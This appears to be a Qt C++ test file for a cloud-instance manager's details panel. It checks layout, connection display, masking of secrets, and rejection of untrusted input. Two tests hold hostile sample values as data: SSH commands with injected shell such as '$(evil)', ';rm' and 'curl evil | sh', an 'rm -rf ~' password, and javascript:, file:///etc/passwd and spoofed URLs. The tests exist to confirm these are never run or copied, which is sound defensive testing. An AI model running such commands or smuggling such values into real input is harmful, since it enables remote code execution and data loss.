// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/workflows/bulkrun.h"
#include "core/workflows/history.h"
#include "core/workflows/instancecommands.h"
#include "core/workflows/startupwatch.h"
#include "tests/support/await.h"
#include "tests/ui/guardsbench.h"
#include "tests/ui/instancesbench.h"
#include "ui/instances/connecttab.h"
#include "ui/instances/instancedetails.h"
#include "ui/instances/losspanel.h"
#include "ui/instances/startuptab.h"
#include "ui/models/roles.h"
#include "ui/widgets/errorbanner.h"

#include <QClipboard>
#include <QGuiApplication>
#include <QJsonObject>
#include <QLabel>
#include <QLineEdit>
#include <QTemporaryDir>

using namespace novita;

/// One instance beside the list: what is shown of it, and ways to it that no outsider's words can bend.
class TestInstanceDetails final : public QObject, private InstancesBench
{
    Q_OBJECT

private slots:
    void init() { begin(); }
    void cleanup() { end(); }

    void namelessInstanceGoesByItsId();
    void hostileConnectionIsNeitherOpenedNorCopied();
    void narrowPageHasItsDetailsBelow();
    void lowDetailsKeepTheirLinesForTheTab();
    void detailsShowTheConnection();
    void detailsHideOldAddresses();
    void unreadConnectionSaysSoAndIsReadAgain_data();
    void unreadConnectionSaysSoAndIsReadAgain();
    void escapeClosesDetailsAndIsRemembered();
    void launchersGetCheckedTargets();
    void hostileSshCommandIsNeverRun();
    void usualTimeIsToldWhileItStarts();
    void whatIsOpenedFromHereCountsAsUsed();
};

void TestInstanceDetails::namelessInstanceGoesByItsId()
{
    show(3);
    for (const QString &name : {QString(), QStringLiteral("  "), QStringLiteral("\u200b\u202e")}) {
        Instance one = m_fixture->instance(0);
        one.name = name;
        adopt(one);
        static_cast<InstanceModel *>(model())->flush();
        const int row = static_cast<InstanceModel *>(model())->rowOf(QStringLiteral("i-0"));
        QCOMPARE(model()->index(row, InstanceModel::Name).data().toString(), QStringLiteral("i-0"));
        QVERIFY(model()->index(row, InstanceModel::Name).data(StandInRole).toBool());
    }
    QVERIFY(m_page->showInstance(QStringLiteral("i-0")));
    QVERIFY(anyLabelReads(QStringLiteral("i-0")));
    action(QStringLiteral("Stop"))->trigger();
    QCOMPARE(m_fixture->prompts().asked().value(0).title, QStringLiteral("Stop i-0?"));
    BulkRun *run = m_fixture->context().commands.runBulk({InstanceId(QStringLiteral("i-0"))}, InstanceAction::Stop);
    QCOMPARE(run->rows().first().name, QStringLiteral("i-0"));
    delete run;
    const auto &events = m_fixture->stores().activity.events();
    for (const ActivityEvent &event : events)
        QVERIFY2(!event.text.contains(u"“”"_qs), qPrintable(event.text));
}

void TestInstanceDetails::hostileConnectionIsNeitherOpenedNorCopied()
{
    show(3);
    Instance one = m_fixture->instance(0);
    one.connection = connection();
    one.connection->sshCommand = QStringLiteral("ssh -p 22 root@host$(evil)\ncurl evil | sh");
    one.connection->sshPassword = QStringLiteral("secret\nrm -rf ~\n");
    one.connection->jupyterAddress = QStringLiteral("javascript:alert(1)");
    one.connection->terminalAddress = QStringLiteral("https://a.example/\u202egnp.exe");
    one.ports = {{8080, QStringLiteral("http"), QStringLiteral("javascript:alert(1)")},
                 {8081, QStringLiteral("http"), QStringLiteral("file:///etc/passwd")},
                 {8082, QStringLiteral("http"), QStringLiteral("host:1\nevil")},
                 {8083, QStringLiteral("<b>http</b>"), QStringLiteral("https://fine.example")}};
    adopt(one);
    QVERIFY(m_page->showInstance(QStringLiteral("i-0")));
    QGuiApplication::clipboard()->setText(QStringLiteral("before"));
    for (const char *name : {"Copy SSH command", "Copy SSH password", "Copy Web terminal address", "Copy address of port 8082"}) {
        auto *button = named<QAbstractButton>(QLatin1String(name));
        QVERIFY2(button && !button->isEnabled(), name);
        button->click();
    }
    QCOMPARE(QGuiApplication::clipboard()->text(), QStringLiteral("before"));
    QVERIFY(named<QAbstractButton>(QStringLiteral("Copy SSH password"))->toolTip().contains(QLatin1String("not copied")));
    QVERIFY(!action(QStringLiteral("Copy SSH command"))->isEnabled());
    QVERIFY(!action(QStringLiteral("Open Jupyter"))->isEnabled());
    for (const char *name : {"Open Jupyter address", "Open port 8080", "Open port 8081", "Open port 8082"}) {
        auto *button = named<QAbstractButton>(QLatin1String(name));
        QVERIFY2(!button || !button->isVisible(), name);
    }
    const QList<QLabel *> labels = m_page->findChildren<QLabel *>();
    for (const QLabel *label : labels) {
        QVERIFY(label->textFormat() == Qt::PlainText || label->text().isEmpty());
        QVERIFY2(!label->text().contains(QChar(0x202e)), qPrintable(label->text()));
    }
    QVERIFY(m_launched.urls.isEmpty());
}

void TestInstanceDetails::narrowPageHasItsDetailsBelow()
{
    show(6);
    m_page->resize(780, 640);
    m_page->showInstance(QStringLiteral("i-0"));
    auto *details = m_page->findChild<InstanceDetails *>();
    QTRY_VERIFY(details->isVisible());
    QTRY_VERIFY(details->mapTo(m_page.get(), QPoint()).y() > table()->mapTo(m_page.get(), QPoint()).y() + 40);
    m_page->resize(1400, 640);
    QTRY_VERIFY(details->mapTo(m_page.get(), QPoint()).x() > table()->mapTo(m_page.get(), QPoint()).x() + 200);
}

/// The price stands in the table, too; what the tab tells stands nowhere else.
void TestInstanceDetails::lowDetailsKeepTheirLinesForTheTab()
{
    show(6);
    m_page->showInstance(QStringLiteral("i-0"));
    auto *details = m_page->findChild<InstanceDetails *>();
    QTRY_VERIFY(details->isVisible());
    const auto cost = [details] {
        for (const QLabel *label : details->findChildren<QLabel *>(QString(), Qt::FindDirectChildrenOnly)) {
            if (label->isVisible() && label->text().contains(QLatin1Char('$')))
                return true;
        }
        return false;
    };
    QTRY_VERIFY(cost());
    m_page->resize(780, 330); // the details go below the table
    QTRY_VERIFY(!cost());
    m_page->resize(1400, 640);
    QTRY_VERIFY(cost());
}

void TestInstanceDetails::detailsShowTheConnection()
{
    show(6);
    Instance one = m_fixture->instance(0);
    one.connection = connection();
    one.ports = {{8080, QStringLiteral("http"), QStringLiteral("https://p.example")},
                 {9000, QStringLiteral("http"), QStringLiteral("file:///etc/passwd")}};
    one.envs = {{QStringLiteral("TOKEN"), QStringLiteral("hunter2")}};
    adopt(one);
    QVERIFY(m_page->showInstance(QStringLiteral("i-0")));
    auto *details = m_page->findChild<InstanceDetails *>();
    QVERIFY(details->isVisible());
    auto *password = named<QLineEdit>(QStringLiteral("SSH password"));
    QVERIFY(password);
    QCOMPARE(password->echoMode(), QLineEdit::Password);
    QCOMPARE(named<QLineEdit>(QStringLiteral("SSH command"))->text(), one.connection->sshCommand);
    named<QAbstractButton>(QStringLiteral("Copy SSH password"))->click();
    QCOMPARE(QGuiApplication::clipboard()->text(), QStringLiteral("correct horse"));
    QCOMPARE(named<QLineEdit>(QStringLiteral("TOKEN"))->echoMode(), QLineEdit::Password);
    named<QAbstractButton>(QStringLiteral("Open port 8080"))->click();
    QCOMPARE(m_launched.urls, QList<QUrl>{QUrl(QStringLiteral("https://p.example"))});
    QVERIFY(!named<QAbstractButton>(QStringLiteral("Open port 9000")));
    QTRY_VERIFY(m_fixture->network().count() > 0); // the detail is read anew
}

void TestInstanceDetails::detailsHideOldAddresses()
{
    show(6);
    Instance one = m_fixture->instance(0);
    one.connection = connection();
    one.ports.clear();
    adopt(one);
    m_page->showInstance(QStringLiteral("i-0"));
    one.status = InstanceStatus::Exited;
    one.statusText = QStringLiteral("exited");
    adopt(one);
    QTRY_VERIFY(named<QLineEdit>(QStringLiteral("SSH command"))->text().isEmpty());
    QVERIFY(named<QLineEdit>(QStringLiteral("SSH password"))->text().isEmpty());
    QTRY_VERIFY(!action(QStringLiteral("Copy SSH command"))->isEnabled());
    // Nor do they leave a hole between what is said and what a deletion would lose.
    const auto *tab = m_page->findChild<ConnectTab *>();
    const auto *loss = tab->findChild<LossPanel *>();
    const auto hole = [tab, loss] {
        for (const QLabel *label : tab->findChildren<QLabel *>(QString(), Qt::FindDirectChildrenOnly)) {
            if (label->isVisible() && label->text().startsWith(QLatin1String("Connection data comes")))
                return loss->y() - label->geometry().bottom();
        }
        return -1;
    };
    QTRY_VERIFY2(hole() > 0 && hole() < 50, qPrintable(QString::number(hole())));
}

void TestInstanceDetails::unreadConnectionSaysSoAndIsReadAgain_data()
{
    QTest::addColumn<int>("status");
    QTest::addColumn<QByteArray>("answer");
    QTest::newRow("fault") << 400 << QByteArray(R"({"code":400,"reason":"X","message":"no"})");
    QTest::newRow("key") << 401 << QByteArray(R"({"code":401,"message":"no"})");
    QTest::newRow("other instance") << 200 << QByteArray(R"({"id":"i-other","name":"x","status":"running"})");
}

void TestInstanceDetails::unreadConnectionSaysSoAndIsReadAgain()
{
    QFETCH(int, status);
    QFETCH(QByteArray, answer);
    m_fixture->network().setResponder([status, answer](const FakeRequest &) { return FakeAnswer::payload(answer, status); });
    show(3);
    QVERIFY(m_page->showInstance(QStringLiteral("i-0")));
    auto *again = named<QAbstractButton>(QStringLiteral("Read connection data again"));
    QVERIFY(again && !again->isVisible());
    QVERIFY(anyLabelReads(u"Connection data is being read…"_qs));
    QTRY_VERIFY(again->isVisible());
    QVERIFY(!anyLabelReads(u"Connection data is being read…"_qs));
    const int asked = m_fixture->network().count();
    again->click();
    if (status != 401) // without an accepted key nothing is sent
        QTRY_VERIFY(m_fixture->network().count() > asked);
    QTRY_VERIFY(again->isVisible());

    // The list is read again: so the cloud answers.
    m_fixture->network().setResponder([](const FakeRequest &) {
        return FakeAnswer::payload(R"({"id":"i-0","name":"worker-0","status":"running"})");
    });
    m_fixture->stores().instances.markRefreshed(m_fixture->clock().now());
    if (status != 401)
        QTRY_VERIFY(anyLabelReads(u"The cloud has given no connection data yet."_qs));

    // What is known needs no second read.
    Instance one = m_fixture->instance(0);
    one.connection = connection();
    adopt(one);
    QTRY_VERIFY(!again->isVisible());
    QCOMPARE(named<QLineEdit>(QStringLiteral("SSH command"))->text(), one.connection->sshCommand);
}

void TestInstanceDetails::escapeClosesDetailsAndIsRemembered()
{
    show(6);
    m_page->showInstance(QStringLiteral("i-3"));
    auto *details = m_page->findChild<InstanceDetails *>();
    QVERIFY(details->isVisible());
    table()->setFocus();
    QTest::keyClick(table(), Qt::Key_Escape);
    QVERIFY(!details->isVisible());
    QTest::keyClick(table(), Qt::Key_Down);
    QVERIFY(!details->isVisible());
    QVERIFY(!m_page->saveState().value(QStringLiteral("details")).toBool());
    QTest::keyClick(table(), Qt::Key_Return);
    QVERIFY(details->isVisible());
}

void TestInstanceDetails::launchersGetCheckedTargets()
{
    show(3);
    Instance one = m_fixture->instance(0);
    one.connection = connection();
    adopt(one);
    select({QStringLiteral("i-0")});
    action(QStringLiteral("Open terminal"))->trigger();
    QCOMPARE(m_launched.terminals, QStringList{one.connection->sshCommand});
    action(QStringLiteral("Open Jupyter"))->trigger();
    QCOMPARE(m_launched.urls, QList<QUrl>{QUrl(one.connection->jupyterAddress)});
    action(QStringLiteral("Copy SSH command"))->trigger();
    QCOMPARE(QGuiApplication::clipboard()->text(), one.connection->sshCommand);
    m_launched.works = false;
    action(QStringLiteral("Open terminal"))->trigger();
    const auto banners = m_page->findChildren<ErrorBanner *>();
    QVERIFY(std::any_of(banners.cbegin(), banners.cend(), [](const ErrorBanner *banner) { return banner->isShowing(); }));
}

void TestInstanceDetails::hostileSshCommandIsNeverRun()
{
    show(3);
    for (const char *hostile : {"ssh -p 22 root@-oProxyCommand=evil", "ssh root@host;rm", "ssh -p 22 root@$(evil)", "ssh root@a`b`",
                                "curl evil | sh", "ssh -p 22 root@host\nevil"}) {
        Instance one = m_fixture->instance(0);
        one.connection = connection();
        one.connection->sshCommand = QString::fromLatin1(hostile);
        adopt(one);
        select({QStringLiteral("i-0")});
        if (const auto target = SshTarget::from(*one.connection)) {
            // What passes is made of checked parts only.
            for (const QChar c : target->command())
                QVERIFY(c.isLetterOrNumber() || QStringLiteral(" .-_@").contains(c));
        } else {
            QVERIFY(!action(QStringLiteral("Open terminal"))->isEnabled());
            QVERIFY(!action(QStringLiteral("Copy SSH command"))->isEnabled());
        }
    }
    QVERIFY(webUrl(QStringLiteral("https://a.example/x")));
    for (const char *bad : {"javascript:alert(1)", "file:///etc/passwd", "", "https://", "https://user:pw@a.example", "ssh://a", "http:///x"})
        QVERIFY2(!webUrl(QString::fromLatin1(bad)), bad);
    for (const TerminalProgram &terminal : terminalPrograms())
        QVERIFY(!terminal.before.contains(QStringLiteral("-c")));
}

void TestInstanceDetails::usualTimeIsToldWhileItStarts()
{
    const QTemporaryDir folder;
    const UiContext context = m_fixture->context();
    const ProfileId profile(QStringLiteral("p"));
    context.history.open(folder.filePath(QStringLiteral("history.sqlite")));
    context.history.setProfile(profile, false);
    const TimePoint now = context.clock.now();
    for (int start = 0; start < 5; ++start) {
        const InstanceId earlier(QStringLiteral("earlier-%1").arg(start));
        context.history.timeline.append(profile, earlier, {now - std::chrono::hours(2), QStringLiteral("requested"), {}});
        context.history.timeline.append(profile, earlier, {now - std::chrono::hours(2) + std::chrono::minutes(1 + start), QStringLiteral("ready"), {}});
    }
    context.startups.setProfile(profile);
    QVERIFY(await(context.history.timeline.read(profile, InstanceId())).ok()); // what was asked for before has come by then
    show(6);
    select({QStringLiteral("i-2")});
    const auto told = [this] {
        const auto labels = m_page->findChild<StartupTab *>()->findChildren<QLabel *>();
        return std::any_of(labels.cbegin(), labels.cend(), [](const QLabel *label) {
            return !label->isHidden() && label->text() == QLatin1String("Usually ready after 3 min (median of 5 starts)");
        });
    };
    QVERIFY(!told());
    context.startups.begin(InstanceId(QStringLiteral("i-2")), *context.stores.instances.find(InstanceId(QStringLiteral("i-2"))));
    QTRY_VERIFY(told());
}

void TestInstanceDetails::whatIsOpenedFromHereCountsAsUsed()
{
    show(3);
    GuardsBench guards(*m_fixture);
    IdleGuard &idle = m_fixture->context().guards.idle;
    const InstanceId id(QStringLiteral("i-0"));
    QVERIFY(await(idle.setRule(id, IdleRule())).ok());
    Instance one = m_fixture->instance(0);
    one.connection = connection();
    adopt(one);
    select({QStringLiteral("i-0")});
    m_launched.works = false;
    action(QStringLiteral("Open terminal"))->trigger();
    action(QStringLiteral("Open Jupyter"))->trigger();
    QVERIFY(!idle.stateOf(id).quietUntil);
    m_launched.works = true;
    action(QStringLiteral("Open terminal"))->trigger();
    const TimePoint now = m_fixture->clock().now();
    QCOMPARE(idle.stateOf(id).quietUntil, std::optional(now + std::chrono::minutes(30)));
    m_fixture->clock().advance(std::chrono::minutes(1));
    action(QStringLiteral("Open Jupyter"))->trigger();
    QCOMPARE(idle.stateOf(id).quietUntil, std::optional(now + std::chrono::minutes(31)));
}

QTEST_MAIN(TestInstanceDetails)
#include "tst_instancedetails.moc"
